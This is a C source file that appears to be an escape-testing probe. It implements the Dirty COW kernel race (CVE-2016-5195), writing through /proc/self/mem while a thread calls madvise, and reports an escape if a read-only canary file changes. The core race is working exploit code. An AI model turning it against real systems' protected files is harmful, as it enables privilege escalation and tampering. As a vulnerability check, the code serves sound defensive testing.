/* CVE-2016-5195 (Dirty COW), on the runner's read-only canary only: map it
 * private and read-only, then race writes through /proc/self/mem (which may
 * write a private read-only mapping, copying the page) against
 * madvise(MADV_DONTNEED) for a moment.  On a vulnerable kernel a write
 * reaches the file.  The canary changing is the escape.  Args: CANARY. */
#include "escape.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static volatile int stop;
static char *map;

static void *advise(void *arg)
{
	(void)arg;
	while (!stop)
		madvise(map, 4096, MADV_DONTNEED);
	return NULL;
}

ATTEMPT(dirty_cow)
{
	if (argc < 1)
		blocked("usage: CANARY");
	char before[64], after[64];
	if (read_file(argv[0], before, sizeof(before)) < 8)
		blocked("read canary %s: %s", argv[0], en(errno));
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		blocked("open canary: %s", en(errno));
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED)
		blocked("mmap: %s", en(errno));
	int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	if (mem < 0)
		blocked("open /proc/self/mem: %s", en(errno));
	pthread_t t;
	pthread_create(&t, NULL, advise, NULL);
	long writes = 0, failed = 0;
	int err = 0;
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		if (pwrite(mem, "ESCAPE", 6, (off_t)(uintptr_t)(map + 1)) == 6) {
			writes++;
		} else {
			failed++;
			err = errno;
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - start.tv_sec) * 1000000000L + (now.tv_nsec - start.tv_nsec) < 150000000L);
	stop = 1;
	pthread_join(t, NULL);
	close(fd);
	if (read_file(argv[0], after, sizeof(after)) < 8)
		blocked("re-read canary: %s", en(errno));
	if (strcmp(before, after) != 0)
		escaped("a /proc/self/mem write raced with madvise reached the read-only canary: \"%.*s\"", 16, after);
	if (!writes)
		blocked("writes through /proc/self/mem to the private mapping: %s", en(err));
	blocked("%ld writes through /proc/self/mem raced madvise(MADV_DONTNEED) (entry point open): the canary is "
		"unchanged (kernel not vulnerable)", writes);
}
